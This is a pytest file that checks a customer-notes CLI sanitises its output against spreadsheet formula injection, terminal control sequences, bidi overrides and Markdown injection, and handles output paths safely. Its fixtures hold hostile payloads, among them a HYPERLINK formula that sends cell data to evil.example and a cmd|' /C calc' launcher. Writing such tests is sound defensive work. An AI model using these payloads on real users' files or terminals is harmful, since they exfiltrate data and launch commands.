"""What custlens writes is safe where it is opened: a spreadsheet runs no formula from a note, a terminal
gets no control sequence from one, a strict JSON parser reads every file name."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from custlens.cli import app

from .conftest import note

# --- spreadsheets -----------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)")


def _formula_notes(folder) -> None:
    for k in range(2):
        note(folder, f"=1+1-{k}.md", participant=f"P-{k}", segment="+seg", needs=(*FORMULAS, "-5"),
             pains=FORMULAS, extra='tags: ["=tag", "-x"]\nresearcher: "@ana"')


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("command", [["statements"], ["themes", "--all"], ["segments"], ["trends"], ["show", "{theme}"]])
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(command, runner, in_tmp) -> None:
    _formula_notes(in_tmp / "notes")
    themes = json.loads(runner.invoke(app, ["themes", "--all", "--format", "json"]).stdout)["themes"]
    theme = next(t["id"] for t in themes if t["label"] == FORMULAS[0])
    result = runner.invoke(app, [word.format(theme=theme) for word in command] + ["--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    cells = [cell for row in rows[1:] for cell in row]
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "-5"]
    assert formulas == []
    if command[0] in ("statements", "show", "themes"):  # the texts are there, shown as they were written
        assert "'" + FORMULAS[0] in cells
    if command[0] in ("statements", "show"):
        assert "'=1+1-0" in cells and "'+seg" in cells and "'=tag; -x" in cells and "'@ana" in cells
        assert all(row[rows[0].index("line")].isdigit() for row in rows[1:])  # numbers stay numbers
    if command[0] == "statements":
        assert "'" + FORMULAS[3] in cells and "-5" in cells  # a plain number is not a formula
    if command[0] == "themes":
        assert all(row[rows[0].index("mentions")].isdigit() for row in rows[1:])


# --- terminals --------------------------------------------------------------------------------------

ESC = "\x1b"
# clear the screen, set the window title, an OSC 8 link, a C1 control sequence introducer, a bidi override
SEQUENCES = ("\\e[2J\\e[H", "\\e]0;pwned\\a", "\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\", "\\x9b31m", "\\u202e")


def _control_notes(folder) -> None:
    """Notes whose texts, participant ids, segments, file name and an unknown kind hold control sequences
    (YAML's double-quoted escapes make them; a Markdown body can hold the raw bytes)."""
    folder.mkdir(parents=True, exist_ok=True)
    entries = []
    for k in range(3):
        entries.append(
            f'- date: 2026-0{k + 1}-02\n  kind: interview\n  segment: "smb{SEQUENCES[0]}"\n'
            f'  participant: "P-{k}{SEQUENCES[1]}"\n'
            f'  needs: ["Export {SEQUENCES[2]} invoices to Xero {SEQUENCES[3]}"]\n'
            f'  pains: ["The sync lags {SEQUENCES[4]} every day {SEQUENCES[0]}"]\n'
        )
    (folder / f"calls{ESC}[2J.yaml").write_text("".join(entries), encoding="utf-8")
    (folder / "raw.md").write_text(
        f"---\ndate: 2026-02-02\nkind: interview\nsegment: smb\n---\n## Needs\n- Export{ESC}]0;title\x07 invoices to Xero\n",
        encoding="utf-8",
    )
    (folder / "bad.yaml").write_text(f'- date: 2026-01-02\n  kind: "inter{SEQUENCES[1]}{SEQUENCES[3]}"\n  segment: smb\n'
                                     f'  "x{SEQUENCES[0]}": 1\n  needs: [x]\n', encoding="utf-8")


def _control_characters(text: str) -> list[str]:
    return sorted({ch for ch in text if (ord(ch) < 32 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F
                   or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})


COMMANDS = [
    ["themes", "--all"], ["themes", "--all", "--format", "markdown"], ["themes", "--all", "--format", "csv"],
    ["show", "{theme}"], ["show", "{theme}", "--format", "markdown"],
    ["statements"], ["statements", "--format", "markdown"], ["statements", "--format", "csv"],
    ["segments"], ["segments", "--format", "markdown"], ["trends"], ["trends", "--format", "markdown"],
    ["check"], ["check", "--format", "github"], ["report", "--html", "-"],
]


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c) for c in COMMANDS])
def test_control_sequences_in_notes_never_reach_the_terminal(command, terminal, runner, in_tmp, monkeypatch) -> None:
    from custlens import cli

    _control_notes(in_tmp / "notes")
    themes = json.loads(runner.invoke(app, ["themes", "--all", "--format", "json"]).stdout)["themes"]
    theme = next(t["id"] for t in themes if t["label"].startswith("Export "))
    monkeypatch.setattr(cli.console, "is_terminal", lambda: terminal)
    result = runner.invoke(app, [word.format(theme=theme) for word in command])
    assert result.exit_code in (0, 1), result.output
    assert _control_characters(result.stdout) == [] and _control_characters(result.stderr) == []
    shown = result.stdout + result.stderr
    assert "\\x1b" in shown  # written out where it was
    if command[0] == "check":
        assert "unknown kind `inter\\x1b]0;pwned\\x07\\x9b31m`" in shown and "unknown key `x\\x1b[2J\\x1b[H`" in shown
    elif command[-1] == "markdown" and command[0] in ("statements", "show"):
        assert "notes/calls\\x1b[2J.yaml:" in shown  # the file name too
    if command[0] != "check" and command != ["trends"]:
        assert "\\x9b31m" in shown or "\\u202e" in shown or command[0] == "segments"


@pytest.mark.parametrize("terminal", [False, True], ids=["compact", "indented"])
@pytest.mark.parametrize("command", [["themes", "--all"], ["statements"], ["check"], ["show", "{theme}"]])
def test_json_escapes_every_control_character_indented_or_compact(command, terminal, runner, in_tmp, monkeypatch) -> None:
    # compact JSON goes to pipes, and `| jq` or `| cat` would pass a raw \x9b or \u202e on to the terminal
    from custlens import cli

    _control_notes(in_tmp / "notes")
    themes = json.loads(runner.invoke(app, ["themes", "--all", "--format", "json"]).stdout)["themes"]
    theme = next(t["id"] for t in themes if t["label"].startswith("Export "))
    monkeypatch.setattr(cli.console, "is_terminal", lambda: terminal)
    result = runner.invoke(app, [word.format(theme=theme) for word in command] + ["--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert _control_characters(result.stdout) == []
    assert command[0] == "check" or "\\u009b" in result.stdout  # escaped, where it was
    raw = result.stdout.replace("\\u009b", "\x9b").replace("\\u202e", "\u202e")
    assert json.dumps(json.loads(result.stdout)) == json.dumps(json.loads(raw))  # the same text, escaped


def test_warnings_and_errors_on_stderr_show_control_characters_written_out(runner, in_tmp) -> None:
    _control_notes(in_tmp / "notes")
    skipped = runner.invoke(app, ["themes"])
    assert "warning:" in skipped.stderr and "\\x1b" in skipped.stderr and _control_characters(skipped.stderr) == []
    missing = runner.invoke(app, ["themes", "--segment", f"x{ESC}[2J"])
    assert missing.exit_code == 2 and "x\\x1b[2J" in missing.stderr and _control_characters(missing.stderr) == []


# --- file names that are not UTF-8 ----------------------------------------------------------------


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_a_file_name_that_is_not_utf8_gives_json_a_strict_parser_reads(locale, tmp_path) -> None:
    import os
    import subprocess
    import sys

    folder = tmp_path / "notes"
    folder.mkdir()
    name = os.fsdecode(b"caf\xff.md")
    (folder / name).write_text("---\ndate: 2026-01-01\nkind: interview\nsegment: smb\n---\n## Needs\n- Export\n")
    env = dict(os.environ, LC_ALL=locale, CUSTLENS_CACHE_DIR=str(tmp_path / "cache"))
    for args in (["statements", "--format", "json"], ["check", "--format", "json"], ["themes", "--format", "json"]):
        done = subprocess.run([sys.executable, "-m", "custlens", *args, str(folder)], capture_output=True, env=env,
                              check=False)
        assert done.returncode == 0, done.stderr
        data = json.loads(done.stdout.decode("utf-8"))  # strict: a raw 0xff byte would not decode
        text = json.dumps(data, ensure_ascii=False)
        assert "caf\\\\xff" in text or args[0] == "themes"  # themes shows no one-mention theme
        assert "\udcff" not in text
    table = subprocess.run([sys.executable, "-m", "custlens", "statements", "notes"], capture_output=True, env=env,
                           cwd=tmp_path, check=False)
    assert b"notes/caf\\xff.md:7" in table.stdout


# --- output paths -----------------------------------------------------------------------------------

OUTPUTS = {"report": ["report", "{notes}", "--html"], "schema": ["schema", "-o"]}


def _write_to(runner, command: str, path, notes) -> object:
    args = [word.format(notes=notes) for word in OUTPUTS[command]] + [str(path)]
    return runner.invoke(app, args)


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_an_output_path_that_is_a_link_is_written_through_to_its_target(command, runner, tmp_path) -> None:
    from .conftest import NOTES

    (tmp_path / "kept.html").write_text("old")
    (tmp_path / "link").symlink_to("kept.html")
    (tmp_path / "dangling").symlink_to("made.html")
    for name in ("link", "dangling"):
        result = _write_to(runner, command, tmp_path / name, NOTES)
        assert result.exit_code == 0, result.output
        assert (tmp_path / name).is_symlink()
    assert (tmp_path / "kept.html").read_text() != "old" and (tmp_path / "made.html").stat().st_size > 100


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_an_output_path_that_is_a_named_pipe_is_written_into_not_replaced(command, runner, tmp_path) -> None:
    import os
    import stat
    import threading

    from .conftest import NOTES

    pipe = tmp_path / "out.fifo"
    os.mkfifo(pipe)
    read: list[bytes] = []

    def reader() -> None:
        with open(pipe, "rb") as handle:
            read.append(handle.read())

    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    result = _write_to(runner, command, pipe, NOTES)
    if not read:  # the pipe was not opened for writing: let the reader go
        with open(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK), "wb"):
            pass
    thread.join(timeout=10)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)  # still the pipe
    assert read and len(read[0]) > 100


def test_an_output_path_that_is_a_character_device_is_written_into_not_replaced(runner, tmp_path) -> None:
    import os
    import stat

    device = tmp_path / "null"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # what /dev/null is, on Linux
    except (PermissionError, AttributeError):
        pytest.skip("making a character device needs root")
    from .conftest import NOTES

    for command in sorted(OUTPUTS):
        result = _write_to(runner, command, device, NOTES)
        assert result.exit_code == 0, result.output
        assert stat.S_ISCHR(os.lstat(device).st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name != "null"]


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_a_dash_writes_to_standard_output(command, runner, in_tmp) -> None:
    from .conftest import NOTES

    result = _write_to(runner, command, "-", NOTES)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("<!doctype html>" if command == "report" else "{")
    assert not (in_tmp / "-").exists()


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_a_regular_output_file_is_replaced_atomically_and_keeps_its_permissions(command, runner, tmp_path) -> None:
    from .conftest import NOTES

    target = tmp_path / "private.out"
    target.write_text("old")
    target.chmod(0o600)
    result = _write_to(runner, command, target, NOTES)
    assert result.exit_code == 0, result.output
    assert target.read_text() != "old" and target.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["private.out"]  # no temporary file left
    folder = _write_to(runner, command, tmp_path, NOTES)
    assert folder.exit_code == 2 and "a folder" in folder.stderr


@pytest.mark.skipif(not __import__("os").path.exists("/dev/full"), reason="needs /dev/full (Linux)")
@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_an_output_path_on_a_full_device_is_an_io_error(command, runner) -> None:
    import os
    import stat

    from .conftest import NOTES

    result = _write_to(runner, command, "/dev/full", NOTES)
    assert result.exit_code == 74 and "cannot write /dev/full: no space left on device" in result.stderr
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


@pytest.mark.parametrize("fmt", ["table", "csv", "markdown", "json"])
def test_directional_marks_of_right_to_left_text_are_kept_as_written(fmt, runner, tmp_path) -> None:
    # Arabic copied from an app, wrapped in right-to-left marks (U+200F): the customer's words, not a control
    said = "\u200fنحتاج إلى مزامنة الفواتير\u200f"
    note(tmp_path / "notes", "a.md", needs=(said, "\u202eevil"))
    result = runner.invoke(app, ["themes", str(tmp_path / "notes"), "--all", "--format", fmt])
    assert result.exit_code == 0, result.output
    shown = json.loads(result.stdout)["themes"] if fmt == "json" else result.stdout
    assert said in (json.dumps(shown, ensure_ascii=False) if fmt == "json" else shown)
    assert "\u202e" not in result.stdout  # an override still is written out (or escaped)


@pytest.mark.parametrize("command", [["themes", "--all"], ["statements"], ["segments"], ["report", "--markdown", "-"]])
def test_markdown_shows_a_customers_markup_characters_as_typed(command, runner, in_tmp) -> None:
    # a YAML value is kept as written: in Markdown, `**`, `<!-- -->`, `](` and `|` must not become markup
    said = "**Bold** claim, <!-- hidden --> words [a](http://x.example) a|b & 2*3"
    (in_tmp / "notes").mkdir()
    (in_tmp / "notes" / "b.yaml").write_text(
        "- {date: 2026-09-02, kind: survey, segment: s, participant: R-1, needs: [" + json.dumps(said) + "]}\n"
        "- {date: 2026-09-03, kind: survey, segment: s, participant: R-2, needs: [" + json.dumps(said) + "]}\n")
    args = command if command[0] == "report" else [*command, "--format", "markdown"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    escaped = r"\*\*Bold\*\* claim, \<!-- hidden --\> words \[a](http://x.example) a\|b \& 2\*3"
    assert escaped in result.stdout, result.stdout
    assert "<!--" not in result.stdout.replace(r"\<!--", "")


def _rich_lines(table) -> list[str]:
    import io

    from rich.console import Console

    written = io.StringIO()
    Console(file=written, highlight=False, width=1 << 20, no_color=True, soft_wrap=False).print(table)
    return [line.rstrip() for line in written.getvalue().splitlines()]


@pytest.mark.parametrize("command", [["themes", "--all"], ["statements"], ["segments"], ["trends"], ["churn", "--all"],
                                     ["competitors"], ["themes", "--level", "subtheme", "--all"]])
def test_a_table_in_a_pipe_is_written_as_rich_would_write_it(command, runner, monkeypatch) -> None:
    # tables in a pipe are written directly (Rich took 12 s for 40,000 statements): the same text, to the byte
    from custlens.cli import console

    from .conftest import NOTES

    compared = []
    direct = console.plain_table

    def both(table, console=None):
        lines = direct(table, console)
        if lines is not None:
            compared.append(lines == _rich_lines(table))
        return lines

    monkeypatch.setattr(console, "plain_table", both)
    result = runner.invoke(app, [command[0], str(NOTES), *command[1:]])
    assert result.exit_code == 0, result.output
    assert compared and all(compared)


def test_a_direct_table_counts_wide_characters_and_right_alignment_as_rich_does() -> None:
    from rich.table import Table
    from rich.text import Text

    from custlens.cli.console import plain_table

    table = Table(box=None, padding=(0, 1), show_edge=False, pad_edge=False, collapse_padding=True, expand=False)
    table.add_column("Theme", no_wrap=True)
    table.add_column("N", justify="right", no_wrap=True)
    table.add_column("Quote", no_wrap=True)
    for row in (("日程の同期", "12", "“遅い”"), ("Sync lags 😀", "3", ""), (Text("e\u0301t\u00e9"), "100", "x"),
                ("[bold]made[/bold] here :smile:", "7", Text("[not markup]", style="bold"))):
        table.add_row(*row)
    assert plain_table(table) == _rich_lines(table)


@pytest.mark.parametrize("command", [["statements"], ["show", "{theme}"], ["segments"], ["competitors"],
                                     ["themes", "--all"], ["report", "--markdown", "-"]])
def test_markdown_renders_on_github_as_the_customer_typed_it(command, runner, in_tmp) -> None:
    import html
    import re

    cmarkgfm = pytest.importorskip("cmarkgfm")  # GitHub's own Markdown parser
    said = ("**Bold** claim with <!-- hidden --> words, [a](http://x.example) a_b & 2*3 ~~x~~ "
            "see https://help.example.com/csv_export?a=1&b=2 or www.example.com/x_y")
    (in_tmp / "notes").mkdir()
    (in_tmp / "notes" / "a|b.yaml").write_text(
        "".join(f"- {{date: 2026-09-0{k}, kind: survey, segment: '*vip*', participant: R-{k}, "
                f"needs: [{json.dumps(said)}], competitors: [Fresha], text: 'We left Fresha'}}\n" for k in (1, 2)))
    theme = json.loads(runner.invoke(app, ["themes", "--all", "--format", "json"]).stdout)["themes"][0]["id"]
    args = [word.format(theme=theme) for word in command]
    result = runner.invoke(app, args if command[0] == "report" else [*args, "--format", "markdown"])
    assert result.exit_code == 0, result.output
    page = cmarkgfm.github_flavored_markdown_to_html(result.stdout)
    for markup in ("<strong>Bold", "<em>vip", "<del>x", "<a href=\"http://x.example\">a</a>"):
        assert markup not in page  # nothing in the notes becomes bold, italic, struck out or a link
    if "help.example" in result.stdout:  # some reports cut quotes short
        assert 'href="https://help.example.com/csv_export?a=1&amp;b=2"' in page  # a web address stays a link
    shown = html.unescape(re.sub(r"<[^>]+>", "", page))
    if command[0] != "competitors":  # which lists only the statements naming one
        assert "**Bold** claim with <!-- hidden --> words, [a](http://x.example) a_b & 2*3"[: 40] in shown
    assert "\\" not in shown  # no escape is left for the reader to see
    if command[0] == "statements":
        assert "notes/a|b.yaml:1" in shown and shown.count("**Bold**") == 2  # the row held together


@pytest.mark.parametrize("command", [["themes", "--all"], ["segments"], ["report", "--markdown", "-"]])
def test_markdown_gives_each_quote_whole_as_the_other_formats_do(command, runner, in_tmp) -> None:
    """Quotes were cut with "…" at 100 to 160 characters in Markdown only."""
    long = ("Every Monday I lose an hour re-entering the same numbers from the paper job sheets into the office "
            "spreadsheet, and then again into the invoicing tool, because nothing talks to anything else")
    for k, segment in enumerate(("smb", "smb", "enterprise")):
        note(in_tmp / "notes", f"{k}.md", participant=f"P-{k}", segment=segment, pains=(long,))
    args = [*command, "--engine", "fuzzy"] + ([] if command[0] == "report" else ["--format", "markdown"])
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert long in result.stdout


@pytest.mark.parametrize("args", [["themes"], ["themes", "--format", "markdown"], ["segments"],
                                  ["report", "--markdown", "-"]])
def test_only_a_customers_own_words_are_shown_in_quotation_marks(args, runner, in_tmp) -> None:
    """A theme with no quote showed its most typical statement (a researcher's bullet or observation)
    in quotation marks, attributed to a participant, as if the customer had said it."""
    for k in range(2):
        note(in_tmp / "notes", f"a{k}.md", participant=f"P-{k}", needs=("Export every invoice to Xero",))
        note(in_tmp / "notes", f"b{k}.md", participant=f"Q-{k}", pains=("Mobile app logs out on every restart",),
             quotes=("The app logs me out every single time",))
    result = runner.invoke(app, [*args, "--engine", "fuzzy"])
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "Export every invoice to Xero" in out and not re.search(r"[\"“]Export every invoice to Xero", out)
    assert re.search(r"[\"“]The app logs me out every single time[\"”]", out)
